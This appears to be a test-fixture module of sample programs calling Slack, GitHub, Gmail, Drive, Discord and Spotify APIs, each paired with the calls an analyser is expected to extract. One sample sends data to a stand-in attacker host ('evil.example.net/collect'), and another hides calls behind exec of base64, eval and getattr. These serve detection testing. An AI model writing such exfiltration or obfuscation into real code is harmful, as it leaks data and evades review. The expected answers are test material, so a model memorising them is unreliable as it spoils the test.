"""Programs as language models write them, and the calls that are in them.

A call is written as its method and what is known of its arguments; what isn't known stands as `?`.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Sample:
    """`calls`: all calls that are there; `missed`: words in what is said of requests that aren't known."""

    name: str
    services: tuple[str, ...]
    program: str
    calls: tuple[str, ...]
    missed: tuple[str, ...] = ()
    notes: tuple[str, ...] = ()
    language: str = "python"


PYTHON = (
    Sample(
        "slack: post and react", ("slack",),
        '''
import os
import logging
from slack_sdk import WebClient
from slack_sdk.errors import SlackApiError

logging.basicConfig(level=logging.INFO)
logger = logging.getLogger(__name__)

client = WebClient(token=os.environ["SLACK_BOT_TOKEN"])

def post_message(channel: str, text: str) -> str | None:
    """Post to Slack. See https://api.slack.com/methods/chat.delete"""
    try:
        response = client.chat_postMessage(channel=channel, text=text)
        assert response["ok"]
        return response["ts"]
    except SlackApiError as e:
        logger.error(f"Error posting message: {e.response['error']}")
        return None

if __name__ == "__main__":
    ts = post_message("#deploys", "Release 1.2 is out")
    if ts:
        client.reactions_add(channel="#deploys", timestamp=ts, name="rocket")
''',
        ("slack.chat.postMessage channel=#deploys text='Release 1.2 is out'",
         "slack.reactions.add channel=#deploys name=rocket timestamp=?"),
    ),
    Sample(
        "slack: pages by cursor", ("slack",),
        '''
from slack_sdk import WebClient
import os

def get_all_channels(client):
    channels = []
    cursor = None
    while True:
        kwargs = {"limit": 200, "types": "public_channel"}
        if cursor:
            kwargs["cursor"] = cursor
        resp = client.conversations_list(**kwargs)
        channels.extend(resp["channels"])
        cursor = resp.get("response_metadata", {}).get("next_cursor")
        if not cursor:
            break
    return channels

client = WebClient(os.getenv("SLACK_TOKEN"))
for ch in get_all_channels(client):
    if ch["num_members"] == 0:
        client.conversations_archive(channel=ch["id"])
''',
        ("slack.conversations.list limit=200 types=public_channel",
         "slack.conversations.list cursor=? limit=200 types=public_channel",
         "slack.conversations.archive channel=?"),
    ),
    Sample(
        "slack: plain requests in a class", ("slack",),
        '''
import requests, os

class SlackClient:
    BASE_URL = "https://slack.com/api/"

    def __init__(self, token):
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def _call(self, method, **params):
        url = self.BASE_URL + method
        r = self.session.post(url, json=params)
        r.raise_for_status()
        data = r.json()
        if not data.get("ok"):
            raise RuntimeError(data["error"])
        return data

    def post(self, channel, text):
        return self._call("chat.postMessage", channel=channel, text=text)

    def delete(self, channel, ts):
        return self._call("chat.delete", channel=channel, ts=ts)

slack = SlackClient(os.environ["SLACK_BOT_TOKEN"])
slack.post("C042", "hello")
''',
        ("slack.chat.postMessage channel=C042 text=hello",),
    ),
    Sample(
        "slack: api_call, urllib, and the same by form", ("slack",),
        '''
import json
import urllib.request
import urllib.parse
from slack_sdk import WebClient

client = WebClient(token="xoxb-placeholder")
client.api_call("pins.add", json={"channel": "C1", "timestamp": "17.2"})
client.api_call(api_method="conversations.info", params={"channel": "C1"})

data = urllib.parse.urlencode({"channel": "C2", "text": "x y"}).encode("utf-8")
req = urllib.request.Request("https://slack.com/api/chat.postMessage", data=data, method="POST")
req.add_header("Authorization", "Bearer t")
with urllib.request.urlopen(req) as resp:
    print(json.loads(resp.read()))

body = json.dumps({"channel": "C3", "text": "z"}).encode()
request = urllib.request.Request("https://slack.com/api/chat.postMessage", body, {"Content-Type": "text/json"})
print(urllib.request.urlopen(request, timeout=5).read())
print(urllib.request.urlopen("https://slack.com/api/users.info?" + urllib.parse.urlencode({"user": "U1"})).read())
''',
        ("slack.pins.add channel=C1 timestamp=17.2", "slack.conversations.info channel=C1",
         "slack.chat.postMessage channel=C2 text='x y'", "slack.chat.postMessage channel=C3 text=z",
         "slack.users.info user=U1"),
    ),
    Sample(
        "slack: asynchronous, gathered", ("slack",),
        '''
import asyncio
from slack_sdk.web.async_client import AsyncWebClient

client = AsyncWebClient(token="t")

async def notify(user_id: str, message: str):
    await client.chat_postMessage(channel=user_id, text=message)

async def main():
    users = ["U1", "U2"]
    await asyncio.gather(*(notify(u, "standup!") for u in users))

asyncio.run(main())
''',
        ("slack.chat.postMessage channel=U1 text=standup!", "slack.chat.postMessage channel=U2 text=standup!"),
    ),
    Sample(
        "github: a session with a base", ("github",),
        '''
import os
import sys
import requests

GITHUB_API = os.environ.get("GITHUB_API_URL", "https://api.github.com")
TOKEN = os.environ.get("GITHUB_TOKEN")
if not TOKEN:
    sys.exit("GITHUB_TOKEN is required")

HEADERS = {"Authorization": f"token {TOKEN}", "Accept": "application/vnd.github+json"}
owner = "meadow"
repo = "barn"

def create_issue(title, body=None, labels=None):
    url = f"{GITHUB_API}/repos/{owner}/{repo}/issues"
    payload = {"title": title}
    if body:
        payload["body"] = body
    if labels:
        payload["labels"] = labels
    response = requests.post(url, headers=HEADERS, json=payload, timeout=30)
    if response.status_code == 201:
        return response.json()["number"]
    response.raise_for_status()

def comment(number, text):
    url = "{}/repos/{}/{}/issues/{}/comments".format(GITHUB_API, owner, repo, number)
    requests.post(url, headers=HEADERS, json={"body": text})

n = create_issue("The door squeaks", labels=["bug"])
comment(n, "Oil it.")
''',
        ("github.issues.create owner=meadow repo=barn title='The door squeaks' labels=['bug']",
         "github.comments.create body='Oil it.' issue_number=? owner=meadow repo=barn"),
    ),
    Sample(
        "github: httpx with base_url, what PATCH changes", ("github",),
        '''
import httpx
with httpx.Client(base_url="https://api.github.com", headers={"Authorization": "Bearer x"}) as client:
    issues = client.get("/repos/meadow/barn/issues", params={"state": "open", "per_page": 100}).json()
    stale = [i for i in issues if i["comments"] == 0]
    for issue in stale:
        client.patch(f"/repos/meadow/barn/issues/{issue['number']}", json={"state": "closed"})
    client.patch("/repos/meadow/barn/issues/7", json={"title": "New"})
    client.put("/user/starred/meadow/barn")
    client.delete("/user/starred/%s/%s" % ("meadow", "mill"))
    client.patch("/repos/meadow/barn/issues/8", json={"assignees": ["amy"]})
''',
        ("github.issues.list owner=meadow per_page=100 repo=barn state=open",
         "github.issues.close issue_number=? owner=meadow repo=barn state=closed",
         "github.issues.setTitle issue_number=7 owner=meadow repo=barn title=New",
         "github.stars.add owner=meadow repo=barn", "github.stars.remove owner=meadow repo=mill"),
        missed=("issues/8: could be",),
    ),
    Sample(
        "github: PyGithub", ("github",),
        '''
import os
from datetime import datetime, timedelta, timezone
from github import Github, Auth, GithubException

def main():
    auth = Auth.Token(os.environ["GITHUB_TOKEN"])
    g = Github(auth=auth)
    repo = g.get_repo("meadow/barn")
    cutoff = datetime.now(timezone.utc) - timedelta(days=90)
    for issue in repo.get_issues(state="open", sort="updated", direction="asc"):
        if issue.pull_request:
            continue
        if issue.updated_at < cutoff:
            issue.create_comment("Closing as stale.")
            issue.edit(state="closed")
            issue.add_to_labels("stale")
    try:
        pr = repo.get_pull(12)
        if pr.mergeable:
            pr.merge(merge_method="squash")
    except GithubException as e:
        print(e)
    new = repo.create_issue(title="Weekly", body=f"Made {cutoff:%Y}")
    print(new.number, g.get_user().login)

main()
''',
        ("github.repos.get owner=meadow repo=barn",
         "github.issues.list direction=asc owner=meadow page=? repo=barn sort=updated state=open",
         "github.issues.get issue_number=? owner=meadow repo=barn",  # a list leaves out whether it is a pull request
         "github.comments.create body='Closing as stale.' issue_number=? owner=meadow repo=barn",
         "github.issues.close issue_number=? owner=meadow repo=barn state=closed",
         "github.issues.addLabels issue_number=? owner=meadow repo=barn ?",
         "github.pulls.get owner=meadow pull_number=12 repo=barn",
         "github.pulls.merge merge_method=squash owner=meadow pull_number=12 repo=barn",
         "github.issues.create body=? owner=meadow repo=barn title=Weekly",
         "github.users.me"),
    ),
    Sample(
        "gmail: the usual way", ("gmail",),
        '''
import base64
import os.path
from email.mime.text import MIMEText
from google.auth.transport.requests import Request
from google.oauth2.credentials import Credentials
from googleapiclient.discovery import build
from googleapiclient.errors import HttpError

SCOPES = ["https://www.googleapis.com/auth/gmail.modify"]

def get_service():
    creds = Credentials(token=os.environ["GOOGLE_ACCESS_TOKEN"])
    return build("gmail", "v1", credentials=creds)

def send(service, to, subject, text):
    message = MIMEText(text)
    message["to"] = to
    message["subject"] = subject
    raw = base64.urlsafe_b64encode(message.as_bytes()).decode()
    return service.users().messages().send(userId="me", body={"raw": raw}).execute()

def main():
    service = get_service()
    try:
        results = service.users().messages().list(userId="me", labelIds=["INBOX"], q="is:unread").execute()
        for m in results.get("messages", []):
            msg = service.users().messages().get(userId="me", id=m["id"], format="full").execute()
            service.users().messages().modify(
                userId="me", id=m["id"], body={"removeLabelIds": ["UNREAD"]}
            ).execute()
        labels = service.users().labels().list(userId="me").execute()
        send(service, "amy@example.org", "Digest", "…")
    except HttpError as error:
        print(f"An error occurred: {error}")

if __name__ == "__main__":
    main()
''',
        ("gmail.users.messages.list labelIds=['INBOX'] q=is:unread userId=me",
         "gmail.users.messages.get format=full id=? userId=me",
         "gmail.users.messages.modify id=? removeLabelIds=['UNREAD'] userId=me",
         "gmail.users.labels.list userId=me", "gmail.users.messages.send raw=? userId=me"),
    ),
    Sample(
        "drive and calendar: chains through variables", ("google_drive", "google_calendar"),
        '''
from googleapiclient import discovery
from googleapiclient.http import MediaFileUpload

drive = discovery.build("drive", "v3", credentials=creds, cache_discovery=False)
files = drive.files()
page_token = None
while True:
    response = files.list(q="name contains 'report'", fields="nextPageToken, files(id, name)",
                          pageToken=page_token).execute()
    for f in response.get("files", []):
        files.update(fileId=f["id"], body={"trashed": True}).execute()
    page_token = response.get("nextPageToken")
    if page_token is None:
        break
folder = files.create(body={"name": "Q3", "mimeType": "application/vnd.google-apps.folder"}, fields="id").execute()
media = MediaFileUpload("a.csv", mimetype="text/csv")
files.create(body={"name": "a.csv", "parents": [folder["id"]]}, media_body=media).execute()
calendar = discovery.build("calendar", "v3", credentials=creds)
event = {"summary": "Standup", "start": {"dateTime": "2026-01-05T09:00:00Z"},
         "end": {"dateTime": "2026-01-05T09:15:00Z"}}
calendar.events().insert(calendarId="primary", body=event, sendUpdates="all").execute()
''',
        ("google_drive.files.list fields='nextPageToken, files(id, name)' q=\"name contains 'report'\"",
         "google_drive.files.list fields='nextPageToken, files(id, name)' pageToken=? q=\"name contains 'report'\"",
         "google_drive.files.trash fileId=? trashed=True",
         "google_drive.files.createFolder fields=id mimeType=application/vnd.google-apps.folder name=Q3",
         "google_drive.files.create name=a.csv parents=?",
         "google_calendar.events.insert calendarId=primary end={'dateTime': '2026-01-05T09:15:00Z'} sendUpdates=all"
         " start={'dateTime': '2026-01-05T09:00:00Z'} summary=Standup"),
    ),
    Sample(
        "discord and spotify: what GoEx says where a service is", ("discord", "spotify"),
        '''
import os
import requests
BASE = os.environ["GOEX_URL_DISCORD"]
r = requests.post(f"{BASE}/channels/123/messages", json={"content": "hi"})
token = os.environ["GOEX_TOKEN_SPOTIFY"]
spotify = os.environ["GOEX_URL_SPOTIFY"].rstrip("/")
requests.put(spotify + "/me/player/pause", headers={"Authorization": "Bearer " + token})
requests.get("https://api.spotify.com/v1/search", params={"q": "x", "type": "track"})
requests.get("https://discord.com/api/v9/users/@me")
''',
        ("discord.create_message channel_id=123 content=hi", "spotify.pause_a_users_playback",
         "spotify.search q=x type=track", "discord.get_my_user"),
    ),
    Sample(
        "http.client, urllib3, threads", ("slack", "github"),
        '''
import http.client, json, urllib3, threading
from concurrent.futures import ThreadPoolExecutor
conn = http.client.HTTPSConnection("slack.com", timeout=10)
conn.request("POST", "/api/chat.postMessage", json.dumps({"channel": "C1", "text": "a"}), {"Accept": "text/json"})
print(conn.getresponse().read())
pool = urllib3.PoolManager()
pool.request("GET", "https://api.github.com/user/repos", fields={"per_page": "5"})
def star(name):
    pool.request("PUT", "https://api.github.com/user/starred/" + name)
with ThreadPoolExecutor(4) as executor:
    for n in ("meadow/barn", "meadow/mill"):
        executor.submit(star, n)
    executor.map(star, ["a/b"])
def job():
    pool.request("GET", "https://api.github.com/user")
threading.Thread(target=job, daemon=True).start()
''',
        ("slack.chat.postMessage channel=C1 text=a", "github.repos.list per_page=5",
         "github.stars.add owner=meadow repo=barn", "github.stars.add owner=meadow repo=mill",
         "github.stars.add owner=a repo=b", "github.users.me"),
    ),
    Sample(
        "dispatch by a table, and callbacks", ("slack",),
        '''
import requests
API = "https://slack.com/api"
def post(args): return requests.post(f"{API}/chat.postMessage", json=args)
def pin(args): return requests.post(f"{API}/pins.add", json=args)
ACTIONS = {"post": post, "pin": pin}
for name, args in [("post", {"channel": "C1", "text": "x"}), ("pin", {"channel": "C1", "timestamp": "1"})]:
    ACTIONS[name](args)
''',
        ("slack.chat.postMessage channel=C1 text=x", "slack.pins.add channel=C1 timestamp=1"),
    ),
    Sample(
        "a host nobody named, and one that isn't known", ("slack",),
        '''
import requests, sys
requests.get("https://evil.example.net/collect", params={"q": 1})
requests.post(sys.argv[1] + "/chat.postMessage", json={})
requests.get("https://api.github.com/user")
''',
        (), missed=("evil.example.net/collect", "isn't known"),
    ),
    Sample(
        "nothing is called that nothing reaches", ("slack", "github"),
        '''
"""requests.post("https://slack.com/api/chat.postMessage")"""
import requests
URL = "https://slack.com/api/chat.delete"
# requests.post("https://slack.com/api/pins.add")
def never():
    requests.post("https://slack.com/api/conversations.archive", json={"channel": "C1"})
if False:
    requests.post("https://slack.com/api/pins.remove")
class Unused:
    def go(self):
        requests.delete("https://api.github.com/repos/a/b")
def early():
    return 1
    requests.get("https://slack.com/api/users.list")
early()
DEBUG = 0
if DEBUG:
    requests.get("https://slack.com/api/users.list")
print("https://slack.com/api/users.info")
raise SystemExit
requests.get("https://slack.com/api/conversations.list")
''',
        (),
    ),
    Sample(
        "names that are something else here", ("slack", "github"),
        '''
class requests:
    @staticmethod
    def post(url, **kw): return None
requests.post("https://slack.com/api/chat.postMessage", json={"channel": "C"})
class WebClient:
    def __init__(self, token): pass
    def chat_postMessage(self, **kw): print(kw)
WebClient("t").chat_postMessage(channel="C", text="x")
from mymodule import Github
Github("t").get_repo("a/b").delete()
''',
        (),
    ),
    Sample(
        "what hides what it calls", ("slack", "github"),
        '''
import requests, base64, importlib
getattr(requests, "po" + "st")("https://slack.com/api/chat.delete", json={"channel": "C1", "ts": "1"})
f = getattr(requests, input())
f("https://slack.com/api/chat.postMessage")
exec(base64.b64decode("cmVxdWVzdHM="))
eval("requests.get('https://slack.com/api/users.list')")
m = __import__("requests")
m.post("https://slack.com/api/pins.add")
importlib.import_module("requests").post("https://slack.com/api/pins.remove")
globals()["requests"].post("https://slack.com/api/reactions.add")
''',
        ("slack.chat.delete channel=C1 ts=1",),
        notes=("getattr", "exec", "eval", "__import__", "import_module", "globals"),
    ),
)  # fmt: skip

SHELL = (
    Sample(
        "curl: variables, functions, loops", ("slack",),
        r'''#!/usr/bin/env bash
set -euo pipefail
TOKEN="${SLACK_BOT_TOKEN:?missing}"
API=https://slack.com/api

post() {
  local channel="$1" msg="$2"
  curl -sS -X POST "$API/chat.postMessage" \
    -H "Authorization: Bearer $TOKEN" \
    -H 'Content-Type: application/json; charset=utf-8' \
    -d "{\"channel\": \"$channel\", \"text\": \"$msg\"}" | jq -r .ts
}

for c in "#a" "#b"; do
  post "$c" "hello $c"
done
TS=$(curl -s -G "$API/conversations.history" --data-urlencode "channel=C1" -d limit=5 | jq -r '.messages[0].ts')
if [ -n "$TS" ]; then
  curl -s -XPOST https://slack.com/api/chat.delete -d "channel=C1&ts=$TS"
fi
curl -s 'https://slack.com/api/users.list?limit=10' > users.json
''',
        ("slack.chat.postMessage channel=#a text='hello #a'", "slack.chat.postMessage channel=#b text='hello #b'",
         "slack.conversations.history channel=C1 limit=5", "slack.chat.delete channel=C1 ts=?",
         "slack.users.list limit=10"),
        language="shell",
    ),
    Sample(
        "here-documents: a body, and Python", ("slack", "github"),
        r'''
payload=$(cat <<EOF
{"channel": "C9", "text": "built by $USER"}
EOF
)  # fmt: skip
curl --fail --silent --show-error --request POST --url https://slack.com/api/chat.postMessage --data "$payload"
cat > /tmp/issue.json <<'EOF'
{"title": "T", "body": "B"}
EOF
curl -s -H "Authorization: token $GITHUB_TOKEN" -d @/tmp/issue.json https://api.github.com/repos/meadow/barn/issues
python3 - <<'PY'
import requests
requests.put("https://api.github.com/user/starred/meadow/barn")
PY
cat > job.py <<'PY'
import requests
requests.get("https://api.github.com/user")
PY
python3 job.py
gh api repos/meadow/barn/issues/3/comments -f body='done'
wget -qO- --post-data='channel=C1' https://slack.com/api/conversations.join
''',
        ("slack.chat.postMessage channel=C9 text=?", "github.issues.create body=B owner=meadow repo=barn title=T",
         "github.stars.add owner=meadow repo=barn", "github.users.me",
         "github.comments.create body=done issue_number=3 owner=meadow repo=barn",
         "slack.conversations.join channel=C1"),
        language="shell",
    ),
    Sample(
        "what isn't read, and what isn't called", ("slack",),
        r'''
# curl https://slack.com/api/pins.add
echo "curl https://slack.com/api/pins.add"
unused() { curl https://slack.com/api/pins.remove; }
eval "$CMD"
curl "$WHERE/api/chat.postMessage" -d x=1
$TOOL https://slack.com/api/users.list
ruby -e 'require "net/http"; Net::HTTP.get(URI("https://slack.com/api/users.list"))'
curl --aws-sigv4 aws:amz:us-east-1:s3 https://slack.com/api/users.info
''',
        (), missed=("isn't known", "signed"), notes=("eval", "name is made", "ruby"), language="shell",
    ),
)  # fmt: skip

# Ways in which the same is written in larger programs.
LARGER = (
    Sample(
        "a client in two classes, and a dataclass", ("github",),
        '''
from dataclasses import dataclass, field
import requests, os
from requests.adapters import HTTPAdapter
from urllib3.util.retry import Retry
@dataclass
class Config:
    owner: str
    repo: str
    base_url: str = "https://api.github.com"
    token: str = field(default_factory=lambda: os.environ["GITHUB_TOKEN"])
class Base:
    def __init__(self, config):
        self.config = config
        self.s = requests.Session()
        self.s.mount("https://", HTTPAdapter(max_retries=Retry(total=3)))
    def url(self, *parts):
        return "/".join([self.config.base_url, "repos", self.config.owner, self.config.repo, *parts])
class Client(Base):
    def __init__(self, config):
        super().__init__(config)
        self.s.headers.update({"Authorization": f"Bearer {config.token}"})
    def issue(self, number: int):
        return self.s.get(self.url("issues", str(number)))
    @property
    def readme(self):
        return self.s.get(self.url("readme"))
c = Client(Config("a", "b"))
c.issue(5)
c.readme
''',
        (
         "github.issues.get owner=a repo=b issue_number=5",
         "github.repos.readme owner=a repo=b",),
        missed=(),
    ),
    Sample(
        "pages by links, and a name of two segments", ("github",),
        '''
import requests
url = "https://api.github.com/user/repos?per_page=100"
repos = []
while url:
    r = requests.get(url, headers={"Authorization": "x"})
    repos += r.json()
    url = r.links.get("next", {}).get("url")
for repo in repos:
    full = repo["full_name"]
    requests.get(f"https://api.github.com/repos/{full}/issues")
    owner, name = full.split("/")
    requests.delete(f"https://api.github.com/user/starred/{owner}/{name}")
''',
        (
         "github.repos.list per_page=100",
         "github.issues.list owner=? repo=?",
         "github.stars.remove owner=? repo=?",),
        missed=("isn't known", ),
    ),
    Sample(
        "github: PyGithub, from one object to the next", ("github",),
        '''
from github import Github
import os
g = Github(os.getenv("GITHUB_TOKEN"))
user = g.get_user()
repo = user.get_repo("barn")
contents = repo.get_contents("README.md")
for pr in repo.get_pulls(state="open", base="main"):
    pr.create_issue_comment("ping")
issue = g.get_repo("a/b").get_issue(number=3)
issue.edit(state="closed")
issue.create_comment(body="x")
[i.lock("spam") for i in g.search_issues("repo:a/b is:open")]
repos = list(g.get_organization("acme").get_repos())
for r in repos[:3]:
    r.get_issues()
for c in issue.get_comments():
    c.delete()
user.add_to_starred(repo)
''',
        (
         "github.users.me",
         "github.repos.get owner=? repo=barn",
         "github.pulls.list owner=? page=? repo=barn state=open base=main",
         "github.comments.create owner=? repo=barn issue_number=? body=ping",
         "github.repos.get owner=a repo=b",
         "github.issues.get owner=a repo=b issue_number=3",
         "github.issues.close owner=a repo=b issue_number=3 state=closed",
         "github.comments.create owner=a repo=b issue_number=3 body=x",
         "github.issues.lock owner=? repo=? issue_number=? lock_reason=spam",
         "github.issues.list owner=? page=? repo=?",
         "github.comments.list owner=a page=? repo=b issue_number=3",
         "github.comments.delete owner=a repo=b comment_id=?",
         "github.stars.add owner=? repo=barn",),
        missed=("contents/README.md", "search/issues", ),
    ),
    Sample(
        "functions behind decorators", ("slack",),
        '''
import functools, time, requests
def retry(times=3):
    def deco(fn):
        @functools.wraps(fn)
        def wrapper(*args, **kwargs):
            for _ in range(times):
                try:
                    return fn(*args, **kwargs)
                except Exception:
                    time.sleep(1)
        return wrapper
    return deco
@retry(times=2)
def post(channel, text="x"):
    body = dict(channel=channel, text=text)
    return requests.post("https://slack.com/api/chat.postMessage", json=body)
post("#a")
post(channel="#b", text="y")
lst = ["U1","U2"]
ids = [requests.get("https://slack.com/api/users.info", params={"user": u}).json()["user"]["id"] for u in lst]
res = requests.request(method="post", url="https://slack.com/api/conversations.create", data={"name": "n"})
''',
        (
         "slack.chat.postMessage channel=#a text=x",
         "slack.chat.postMessage channel=#b text=y",
         "slack.users.info user=U1",
         "slack.users.info user=U2",
         "slack.conversations.create name=n",),
        missed=(),
    ),
    Sample(
        "drive by addresses, with an upload", ("google_drive",),
        '''
import requests, os, json
H = {"Authorization": f"Bearer {os.environ['GOOGLE_ACCESS_TOKEN']}"}
query = {"q": "trashed=false", "fields": "files(id,name)"}
r = requests.get("https://www.googleapis.com/drive/v3/files", headers=H, params=query)
for f in r.json()["files"]:
    requests.patch(f"https://www.googleapis.com/drive/v3/files/{f['id']}", headers=H, json={"name": "x"})
    requests.get(f"https://www.googleapis.com/drive/v3/files/{f['id']}?alt=media", headers=H, stream=True)
files = {"data": ("m", json.dumps({"name": "a"}), "application/json"), "file": open("a", "rb")}
requests.post("https://www.googleapis.com/upload/drive/v3/files?uploadType=multipart", headers=H, files=files)
requests.delete("https://www.googleapis.com/drive/v3/files/abc")
''',
        (
         "google_drive.files.list q=trashed=false fields=files(id,name)",
         "google_drive.files.update fileId=? name=x",
         "google_drive.files.get fileId=? alt=media",
         "google_drive.files.create uploadType=multipart ?",
         "google_drive.files.delete fileId=abc",),
        missed=(),
    ),
    Sample(
        "a client that is made once", ("slack",),
        '''
import os, sys
try:
    from slack_sdk import WebClient
except ImportError:
    print("pip install slack_sdk")
    sys.exit(1)
def get_client():
    token = os.environ.get("SLACK_BOT_TOKEN")
    if not token:
        raise ValueError("no token")
    return WebClient(token=token)
CLIENT = None
def client():
    global CLIENT
    if CLIENT is None:
        CLIENT = get_client()
    return CLIENT
def channel_id(name):
    for page in client().conversations_list(types="public_channel"):
        for ch in page["channels"]:
            if ch["name"] == name:
                return ch["id"]
    return None
cid = channel_id("general")
client().conversations_history(channel=cid, limit=10)
client().chat_update(channel=cid, ts="1.2", text="new")
''',
        (
         "slack.conversations.list types=public_channel",
         "slack.conversations.history channel=? limit=10",
         "slack.chat.update channel=? ts=1.2 text=new",),
        missed=(),
    ),
    Sample(
        "aiohttp", ("slack",),
        '''
import asyncio, aiohttp, os
ENDPOINTS = {"post": "/chat.postMessage", "list": "/conversations.list"}
BASE = "https://slack.com/api"
async def call(session, name, payload=None):
    url = BASE + ENDPOINTS[name]
    if payload is None:
        async with session.get(url) as resp:
            return await resp.json()
    async with session.post(url, json=payload) as resp:
        return await resp.json()
async def main():
    headers = {"Authorization": "Bearer " + os.environ["SLACK_TOKEN"]}
    async with aiohttp.ClientSession(headers=headers) as session:
        data = await call(session, "list")
        tasks = [call(session, "post", {"channel": ch["id"], "text": "hi"}) for ch in data["channels"]]
        await asyncio.gather(*tasks)
asyncio.run(main())
''',
        (
         "slack.conversations.list",
         "slack.chat.postMessage channel=? text=hi",),
        missed=(),
    ),
)  # fmt: skip
